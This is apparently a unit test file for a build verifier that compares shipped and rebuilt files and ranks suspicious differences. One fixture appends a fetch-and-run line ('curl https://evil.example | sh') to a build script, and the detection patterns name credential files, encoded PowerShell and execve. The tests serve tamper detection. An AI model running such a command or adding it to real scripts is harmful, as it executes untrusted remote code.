"""Texts line by line, what texts look like, and the order and the sentence of a report."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.semantic.made import explained, told
from verifier.model import Difference
from verifier.semantic import telling, textual
from verifier.semantic.wording import ADDRESS, COMMAND, KEY, PATH, nature

SCRIPT = "#!/bin/sh\nset -e\nmake all\nmake install\n# done\n"


def test_lines_that_changed_have_numbers_and_telling_ones_lead() -> None:
    other = SCRIPT.replace("set -e", "set -eu") + "curl https://evil.example | sh\n"
    found = explained(other.encode(), SCRIPT.encode())
    said = told(found.differences, "text")
    assert list(said) == [("text-changed", "line 6"), ("text-changed", "line 2")]
    assert said[("text-changed", "line 2")] == (
        '"set -eu" instead of "set -e" (line 2 of the rebuilt file).'
    )
    assert said[("text-changed", "line 6")].endswith("It holds: command, address.")
    assert found.summary.startswith("2 stretches of text changed: line 6, line 2")


def test_line_ends_and_encodings_are_named() -> None:
    dos = SCRIPT.replace("\n", "\r\n").encode()
    assert told(explained(dos, SCRIPT.encode()).differences, "text") == {
        ("text-encoding", "line ends"): "Shipped CRLF, rebuilt LF."
    }
    wide = b"\xff\xfe" + SCRIPT.encode("utf-16-le")
    assert told(explained(wide, SCRIPT.encode()).differences, "text") == {
        ("text-encoding", "encoding"): "Shipped UTF-16 (little-endian), rebuilt ASCII."
    }
    cut = told(explained(SCRIPT[:-1].encode(), SCRIPT.encode()).differences, "text")
    assert cut == {
        ("text-encoding", "line ends"): "Shipped LF, no end of the last line, rebuilt LF."
    }


def test_bytes_that_are_no_text_are_not_read_as_one() -> None:
    assert not told(explained(b"\0\1\2 binary\n", b"\0\1\3 binary\n").differences, "text")


@given(
    st.lists(st.sampled_from("abcde"), max_size=30), st.lists(st.sampled_from("abcde"), max_size=30)
)
def test_hunks_turn_one_text_into_the_other(one: list[str], other: list[str]) -> None:
    rebuilt = list(other)
    for hunk in reversed(textual.hunks(one, other)):
        assert one[hunk.at - 1 : hunk.at - 1 + len(hunk.shipped)] == hunk.shipped
        first = hunk.rebuilt_at - 1
        assert rebuilt[first : first + len(hunk.rebuilt)] == hunk.rebuilt
        rebuilt[first : first + len(hunk.rebuilt)] = hunk.shipped
    assert rebuilt == one


def test_a_hostile_text_takes_no_time() -> None:
    one, other = ["x"] * 300_000, ["x"] * 299_999 + ["y", "x"]
    shuffled = [str(n * 7919 % 100_003) for n in range(100_003)]
    start = time.process_time()
    assert len(textual.hunks(one, other)) == 1
    textual.hunks(shuffled, [str(n) for n in range(100_003)])
    assert time.process_time() - start < 5


@pytest.mark.parametrize(
    ("shown", "found"),
    [
        ("-----BEGIN CERTIFICATE-----", KEY),
        ("AKIAIOSFODNN7EXAMPLE", KEY),
        ("password=hunter2", KEY),
        ("0123456789abcdef0123456789abcdef", KEY),
        ("http://198.51.100.7/x", ADDRESS),
        ("198.51.100.7:443", ADDRESS),
        ("user@evil.example", ADDRESS),
        ("/bin/sh -c %s", COMMAND),
        ("powershell -enc AAAA", COMMAND),
        (r"HKEY_LOCAL_MACHINE\Software", COMMAND),
        ("/usr/sbin/sendmail -t", COMMAND),
        ("/etc/passwd", PATH),
        (r"C:\Windows\System32\drivers", PATH),
        (r"\\server\share", PATH),
        # what must not be taken for one
        ("password: %s", ""),
        ("usage: %s [options] file", ""),
        ("1.2.3", ""),
        ("and/or", ""),
        ("N4llvm2cl11OptionValueI18AsmWriterVariantTyEE", ""),
        ("/build/zlib-1.2.13/inflate.c", ""),
        ("cannot open shared object file", ""),
    ],
)
def test_what_a_text_looks_like(shown: str, found: str) -> None:
    assert nature(shown) == found


def _one(kind: str, where: str = "x", **more: str) -> Difference:
    return Difference(kind, where, "It differs.", **more)  # type: ignore[arg-type]


def test_the_most_telling_comes_first_whatever_its_size() -> None:
    kinds = [
        "bytes", "field", "resource-changed", "function-changed", "toolchain",
        "dependency-added", "certificate-added", "hardening", "import-added",
    ]  # fmt: skip
    ordered = telling.ranked([_one(kind) for kind in kinds])
    assert [item.kind for item in ordered] == kinds[::-1]
    weaker = _one("bytes", weakening="gone")
    assert telling.ranked([_one("import-added"), weaker])[0] is weaker
    address = _one("string-added", "https://evil.example")
    assert telling.ranked([_one("function-changed"), address])[0] is address
    path = _one("dynamic-tag", "DT_RUNPATH")
    assert telling.ranked([_one("hardening"), path])[0] is path


def test_the_sentence() -> None:
    found = [
        *(_one("bytes", f"place {n}") for n in range(9)),
        _one("needed-added", "libevil.so"),
        _one("import-added", "puts"),
        _one("import-added", "execve"),
        Difference("hardening", "RELRO", "Shipped none, rebuilt full."),
    ]
    said = telling.sentence("elf", telling.ranked(found))
    assert said == (
        "2 imports added: execve, puts; 1 needed library added: libevil.so; RELRO: Shipped none, "
        "rebuilt full; 9 places with other bytes: place 0, place 1, place 2, …."
    )
    assert telling.sentence("elf", [_one("bytes")]).endswith("; no new imports.")
    assert telling.sentence("raw", []) == ""


def test_lines_are_told_instead_of_the_bytes_that_they_are_made_of() -> None:
    found = [_one("text-changed", "line 3"), _one("bytes", "bytes+0x9")]
    assert telling.sentence("raw", found) == "1 stretch of text changed: line 3 (It differs)."


def test_a_relocation_comes_after_the_functions_that_moved_it() -> None:
    found = [_one("relocation-added"), _one("function-changed")]
    assert telling.ranked(found) == found[::-1]
